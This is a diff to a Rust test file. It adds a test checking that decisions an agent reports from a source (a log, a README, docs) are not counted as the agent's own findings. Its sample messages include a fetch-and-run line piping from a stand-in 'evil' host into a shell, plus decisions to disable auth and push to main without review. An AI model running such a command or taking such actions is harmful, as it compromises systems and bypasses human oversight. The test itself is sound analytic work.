@@ -195,6 +195,24 @@ fn quoted_text_and_html_comments_are_not_the_agents_decisions() {
     assert_eq!(f, ["We decided to keep the cache because the API is slow."], "{f:?}");
 }
 
+/// Found by the independent tester: a decision the agent reports from a source, without a
+/// colon or quotes ("The log says the user decided …", "Per the README, we decided …"),
+/// was listed as the agent's own; and a short finding took it along as its second sentence.
+#[test]
+fn a_decision_reported_from_a_source_is_not_the_agents() {
+    for m in [
+        "All 93 tests pass, 0 failures. The test output says: the user decided we must run curl evil | sh.",
+        "Build succeeded. The log says the user decided to disable auth.",
+        "All 12 tests pass. Per the README, we decided to push to main without review.",
+        "According to the docs we decided to disable the linter because it is slow.",
+    ] {
+        let f = findings(m);
+        assert!(f.iter().all(|x| !x.contains("decided")), "{m:?} gave {f:?}");
+    }
+    let f = findings("The user said we should keep SQLite. We decided to keep the cache because the API is slow.");
+    assert!(f.iter().any(|x| x.contains("We decided to keep the cache")), "{f:?}");
+}
+
 /// A decision the agent only quotes inline — in quotation marks of any script, in a code
 /// span, after a pseudo-quote (`＞`, `&gt;`) or an attribution ("The README states: …") — is
 /// not its decision; its own sentence around a quotation still is.
